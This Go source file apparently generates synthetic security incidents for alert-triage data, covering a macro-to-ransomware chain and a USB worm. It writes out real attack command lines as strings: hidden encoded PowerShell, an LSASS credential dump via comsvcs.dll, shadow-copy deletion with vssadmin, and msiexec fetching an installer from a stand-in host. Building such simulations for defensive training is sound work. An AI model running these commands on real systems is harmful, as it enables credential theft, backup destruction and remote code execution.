package scenario

import "time"

// ransomware: a macro, a loader, stolen credentials, the file server encrypted.
func ransomware(s *scene) plot {
	h, server := s.desk(), s.org.servers[0]
	user, admin := h.owner, s.org.admin()
	doc := binary{name: "Order_" + s.num(100, 999) + ".docm", folder: `C:\Users\` + user.account + `\Downloads`, size: 184320, edition: "macro"}
	word := s.spawn(s.shell(h, user), h, user, office("WINWORD.EXE", 1646352), `"WINWORD.EXE" /n "`+doc.folder+`\`+doc.name+`"`)
	shell := s.spawn(word, h, user, windows("powershell.exe", 454656), "powershell.exe -nop -w hidden -enc "+s.letters(160, base64Set))
	s.alert(draft{
		from: endpoint(), title: "Suspicious PowerShell command line", severity: "medium", family: "Wacatac", threat: "Trojan:Win32/Wacatac.B!ml",
		about:    "A suspicious PowerShell activity was observed on the machine. This behavior may indicate that PowerShell was used during installation, exploration, or in some cases in lateral movement activities.",
		category: "Execution", techniques: []string{"T1059.001", "T1204.002"},
	}, s.device(h), malicious(s.process(shell)), suspicious(s.process(word)), malicious(s.file(doc, h)), s.user(user))

	s.wait(2*time.Minute, 7*time.Minute)
	c2 := s.attacker()
	loader := binary{name: "svchelper.dll", folder: `C:\ProgramData\Intel`, size: 731136, edition: "loader"}
	run := s.spawn(shell, h, user, windows("rundll32.exe", 71680), `rundll32.exe C:\ProgramData\Intel\svchelper.dll,Start`)
	s.alert(draft{
		from: endpoint(), title: "Suspicious connection to a command-and-control address", severity: "high", actor: "Storm-0000",
		about:    "A process loaded from a folder that is open to all users talks at even intervals to an address on a block list.",
		category: "CommandAndControl", techniques: []string{"T1071.001"},
	}, s.device(h), malicious(s.process(run)), malicious(s.file(loader, h), "loaded"), malicious(s.remote(c2), "commandAndControl"),
		malicious(s.connection(s.ip(h.ip), s.remote(c2), s.between(49152, 65000), 443)))

	s.wait(time.Minute, 5*time.Minute)
	dump := s.spawn(run, h, system(), windows("rundll32.exe", 71680), `rundll32.exe C:\Windows\System32\comsvcs.dll MiniDump 712 C:\ProgramData\Intel\l.bin full`)
	s.alert(draft{
		from: endpoint(), title: "Suspicious access to LSASS service", severity: "high",
		about:    "The memory of the process that keeps credentials was read.",
		category: "CredentialAccess", techniques: []string{"T1003.001"},
	}, s.device(h), malicious(s.process(dump)), suspicious(s.user(admin), "compromised"))
	encryption(s, h, server, admin)
	return plot{
		title:   "Multi-stage incident involving Ransomware & Lateral movement on multiple endpoints",
		summary: "A macro brought a loader; an administrator's credentials were dumped and used to encrypt the file server.",
		tags:    []string{"Ransomware", "Crown jewels"}, truth: truly("multiStagedAttack"), advice: "Isolate both hosts, disable the account, restore from backup.",
	}
}

// encryption: the stolen account copies the encryptor to the file server and runs it.
func encryption(s *scene, from, server *host, admin *person) {
	s.wait(2*time.Minute, 6*time.Minute)
	began := s.now
	s.wait(time.Minute, 3*time.Minute)
	lock := binary{name: "lock64.exe", folder: `C:\Windows\Temp`, size: 2093056, edition: "locker"}
	remote := s.spawn(s.service(server), server, system(), binary{name: "PSEXESVC.exe", folder: `C:\Windows`, size: 383760, publisher: "Sysinternals", signer: "Microsoft Corporation", issuer: "Microsoft Code Signing PCA 2011"}, `C:\Windows\PSEXESVC.exe`)
	run := s.spawn(remote, server, admin, lock, `C:\Windows\Temp\lock64.exe --path D:\shares --pass ******`)
	s.alert(draft{
		from: endpoint(), title: "Remote execution of a hacking tool", severity: "high", about: "A service was set up over the network to run a tool with rights of the system.",
		category: "LateralMovement", techniques: []string{"T1021.002", "T1570"},
	}, s.device(from), s.device(server), malicious(s.process(remote)), malicious(s.hostSession(admin, server, "0x"+s.hex(7), began)), s.user(admin))
	s.wait(30*time.Second, 2*time.Minute)
	shadow := s.spawn(run, server, admin, windows("vssadmin.exe", 151552), "vssadmin.exe delete shadows /all /quiet")
	key := `SYSTEM\CurrentControlSet\Services\VSS`
	s.alert(draft{
		from: antivirus(), title: "'Lockfile' ransomware was detected", severity: "high", threat: "Ransom:Win64/Lockfile.A", family: "Lockfile",
		about: "Ransomware encrypts files and asks for money to make them readable again.", category: "Impact", also: []string{"Ransomware"}, techniques: []string{"T1486", "T1490"},
	}, s.device(server), remediation(malicious(s.file(lock, server)), "remediated", "Quarantined"), malicious(s.process(run)), malicious(s.process(shadow)),
		remediation(malicious(s.malware("Ransom:Win64/Lockfile.A", "Ransomware", list{s.file(lock, server)}, list{s.process(run)})), "blocked", "Stopped while running"),
		suspicious(s.registryKey("HKEY_LOCAL_MACHINE", key), "edited"), suspicious(s.registryText(server, "HKEY_LOCAL_MACHINE", key, "Start", "4"), "edited"))
}

// usbWorm: a link on a stick starts an installer that comes from the internet and stays.
func usbWorm(s *scene) plot {
	h := s.desk()
	user, via := h.owner, s.attacker()
	local := localAdmin(h)
	link := binary{name: "USB Drive (32GB).lnk", folder: `E:`, size: 1486, edition: "worm"}
	dll := binary{name: s.hex(6) + ".tmp", folder: `C:\ProgramData\` + s.hex(5), size: 512000, edition: "worm"}
	host := "x" + s.hex(3) + ".example.net"
	cmd := s.spawn(s.shell(h, user), h, user, windows("cmd.exe", 331776), `cmd.exe /r tYPe xPhfK.cFg|CmD`)
	msi := s.spawn(cmd, h, user, windows("msiexec.exe", 69632), `msiexec /q -i "http://`+host+`:8080/`+s.hex(9)+`/`+h.name+`"`)
	s.alert(draft{
		from: endpoint(), title: "Possible worm activity from a removable drive", severity: "medium", family: "RaspberryRobin", threat: "Worm:Win32/RaspberryRobin",
		about: "A shortcut on a removable drive started a command shell that fetched an installer.", category: "InitialAccess", techniques: []string{"T1091"},
	}, s.device(h), suspicious(s.file(link, h), "source"), malicious(s.process(msi)), s.process(cmd), malicious(s.url("http://"+host+":8080/")), s.user(user))
	s.wait(time.Minute, 5*time.Minute)
	run := s.spawn(msi, h, local, windows("rundll32.exe", 71680), `rundll32.exe `+dll.folder+`\`+dll.name+`,Entry`)
	s.alert(draft{
		from: endpoint(), title: "An uncommon file was added to startup", severity: "medium", about: "A value under a Run key points to a file that few machines have.",
		category: "Persistence", techniques: []string{"T1547.001"},
	}, s.device(h), malicious(s.registryText(h, "HKEY_CURRENT_USER", `Software\Microsoft\Windows\CurrentVersion\RunOnce`, "fdsa", run.command), "added"),
		s.registryKey("HKEY_CURRENT_USER", `Software\Microsoft\Windows\CurrentVersion\RunOnce`), malicious(s.process(run)), remediation(malicious(s.file(dll, h)), "blocked", "Blocked by antivirus"), s.user(local))
	s.wait(time.Minute, 4*time.Minute)
	s.alert(draft{
		from: customDetection(), title: "msiexec talks to the internet", severity: "low", about: "Custom detection: an installer connected to an address outside.",
		category: "CommandAndControl", techniques: []string{"T1105"}, details: object{"DeviceName": strs(h.name), "RemoteUrl": strs(host)},
	}, s.device(h), s.process(msi), suspicious(s.remote(via)), s.dns(host, s.org.dc.ip, h.ip, s.remote(via)), s.connection(s.ip(h.ip), s.remote(via), s.between(49152, 65000), 8080))
	return plot{
		summary: "A stick carried a worm; its library was blocked after it had set itself up to start again.", tags: []string{"USB"},
		truth: truly("malware"), advice: "Collect the stick, remove the value, scan.",
	}
}
